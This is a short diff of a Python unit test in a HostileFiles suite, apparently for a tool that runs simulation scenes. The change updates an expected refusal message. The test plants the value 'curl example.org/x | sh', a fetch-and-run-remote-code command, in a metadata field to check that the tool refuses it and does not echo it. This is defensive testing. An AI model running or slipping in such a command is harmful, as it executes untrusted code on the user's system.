@@ -212,7 +212,7 @@ class HostileFiles(unittest.TestCase):
         os.remove(self.scene / "dimer.crd")
         self.file.write_text('made_by = "curl example.org/x | sh"\n' + self.file.read_text())
         result = self.palpa("run", self.scene)
-        self.assert_refused(result, "dimer.crd is not there", "made_by")
+        self.assert_refused(result, "dimer.crd; expected a file in the scene", "made_by")
         self.assertNotIn("curl", result.stderr)
 
     # ---- numbers
